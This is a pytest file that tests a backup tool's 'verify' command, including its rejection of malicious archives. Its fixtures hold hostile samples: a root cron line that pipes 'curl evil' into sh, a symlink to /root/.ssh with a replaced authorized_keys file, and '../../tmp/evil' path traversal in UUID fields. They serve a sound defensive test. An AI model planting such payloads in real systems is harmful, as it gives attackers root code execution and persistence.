"""`jujubackup verify FILE|ID` through the CLI: exit codes and messages for local files."""

from __future__ import annotations

import tarfile
from pathlib import Path

import pytest

from jujubackup import cli
from jujubackup.errors import EXIT_NOT_FOUND, EXIT_USAGE, EXIT_VERIFY
from tests.unit.archive_builders import VALID, ArchiveSpec, file_info, special_info


def run(args: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str, str]:
    code = cli.main(args)
    captured = capsys.readouterr()
    return code, captured.out, captured.err


@pytest.mark.parametrize("target", ["/nonexistent.tar.gz", "/nonexistent/backup", "missing-backup.tar.gz"])
def test_verify_of_a_missing_file_is_not_found(
    target: str, capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    code, out, err = run(["verify", target], capsys)
    assert code == EXIT_NOT_FOUND
    assert err.splitlines()[0] == f"error: file not found: {target}"
    assert "no host to connect to" not in err and out == ""


def test_verify_of_a_directory_is_a_usage_error(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    code, _out, err = run(["verify", str(tmp_path)], capsys)
    assert code == EXIT_USAGE
    assert err.splitlines()[0] == f"error: {tmp_path} is a directory, not a backup archive"


def test_verify_of_the_juju_fixture_succeeds(capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = run(["verify", str(VALID)], capsys)
    assert code == 0, err
    assert "FAIL" not in out and "ok   members" in out


def test_verify_of_an_archive_adding_a_cron_job_fails_naming_it(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    spec = ArchiveSpec()
    job = b"* * * * * root curl evil | sh\n"
    spec.root.append((file_info("etc/cron.d/evil", job), job))
    code, out, err = run(["verify", str(spec.write(tmp_path / "evil.tar.gz"))], capsys)
    assert code == EXIT_VERIFY
    assert "FAIL members: root.tar member 'etc/cron.d/evil' is not a Juju state file" in out
    assert "root.tar member 'etc/cron.d/evil' is not a Juju state file" in err


def test_verify_of_an_archive_replacing_root_authorized_keys_fails(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    spec = ArchiveSpec()
    spec.root.append((special_info("var/lib/juju/tools/keys", tarfile.SYMTYPE, "/root/.ssh"), None))
    spec.root.append((file_info("root/.ssh/authorized_keys", b"ssh-ed25519 AAAA"), b"ssh-ed25519 AAAA"))
    code, out, _err = run(["verify", str(spec.write(tmp_path / "evil.tar.gz"))], capsys)
    assert code == EXIT_VERIFY
    assert "root.tar member 'root/.ssh/authorized_keys' is not a Juju state file" in out
    assert "root.tar member 'var/lib/juju/tools/keys' is a symlink to '/root/.ssh'" in out


@pytest.mark.parametrize("key", ["ModelUUID", "ControllerUUID"])
def test_verify_of_an_archive_with_a_path_in_a_uuid_fails(
    key: str, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    spec = ArchiveSpec()
    spec.metadata = {**(spec.metadata or {}), key: "../../tmp/evil"}
    code, out, err = run(["verify", str(spec.write(tmp_path / "a.tar.gz"))], capsys)
    assert code == EXIT_VERIFY
    assert f"FAIL metadata: metadata {key} '../../tmp/evil' is not a UUID" in out
    assert f"metadata {key} '../../tmp/evil' is not a UUID" in err
